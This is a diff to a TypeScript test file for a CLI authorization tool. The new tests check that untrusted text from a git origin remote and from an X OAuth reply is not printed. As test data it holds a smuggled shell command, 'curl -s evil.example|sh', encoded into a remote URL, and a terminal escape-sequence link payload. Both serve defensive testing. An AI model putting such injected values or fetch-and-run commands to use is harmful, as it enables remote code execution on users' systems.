@@ -5,9 +5,9 @@ import { tmpdir } from "node:os";
 import { MockAgent } from "undici";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import type { BrowserCommand } from "../../src/cli/browser.js";
-import { readOriginRemote } from "../../src/cli/git-remote.js";
+import { parseGitHubRemote, readOriginRemote } from "../../src/cli/git-remote.js";
 import { startFakeGitHub, type FakeGitHub, type FakeGitHubOptions } from "../support/fake-github.js";
-import { FAKE_APP, startFakeX, type FakeX } from "../support/fake-x.js";
+import { FAKE_APP, FAKE_USER, startFakeX, type FakeX } from "../support/fake-x.js";
 import { FOUR_SECRETS, GITHUB_TOKEN, errorLine, expectNoLeaks, runInProcess, type RunResult } from "./authorize-harness.js";
 
 let x: FakeX;
@@ -98,6 +98,40 @@ describe("runAuthorize", () => {
     expect(result.code).toBe(1);
     expect(errorLine(result)).toContain("Input ended before an answer was given");
     expect(x.requests).toEqual([]);
+  });
+});
+
+describe("runAuthorize: text from the origin remote and from X is not trusted", () => {
+  it("an origin remote whose path is no owner/name is not used: the printed commands keep the placeholder", async () => {
+    const origin = parseGitHubRemote("https://git.evil.example/x/b%3B%20curl%20-s%20evil.example%7Csh");
+    expect(origin?.repo).toBe("x/b; curl -s evil.example|sh");
+    const result = await runInProcess({
+      args: [],
+      env: env({ GITHUB_TOKEN: "" }),
+      action: { kind: "pin" },
+      deps: { readOrigin: () => Promise.resolve(origin) },
+    });
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain("The origin remote does not name a GitHub repository (owner/name); not using it.");
+    expect(result.stdout).toContain("Not saving to GitHub: no repository");
+    expect(result.stdout).not.toContain("curl");
+    expect(result.stdout).toContain("  gh secret set TWITTER_API_KEY --repo OWNER/NAME\n");
+    expectNoLeaks(result, "prints-values");
+  });
+
+  it("a screen_name that is not an X handle (an OSC 8 link) is not printed", async () => {
+    const answer = new URLSearchParams({
+      oauth_token: FAKE_USER.accessToken,
+      oauth_token_secret: FAKE_USER.accessTokenSecret,
+      user_id: FAKE_USER.userId,
+      screen_name: "\u001b]8;;https://evil/\u0007x",
+    });
+    x.enqueueOAuth("access_token", { status: 200, body: answer.toString() });
+    const result = await runInProcess({ args: ["--repo", "octo/app"], env: env({ GITHUB_TOKEN: "" }), action: { kind: "pin" } });
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain("Authorized as the X account you signed in with\n");
+    expect(result.stdout).toContain("Anyone who has them can post as the X account you signed in with.");
+    for (const unwanted of ["\u001b", "\u0007", "evil"]) expect(`${result.stdout}${result.stderr}`).not.toContain(unwanted);
   });
 });
 
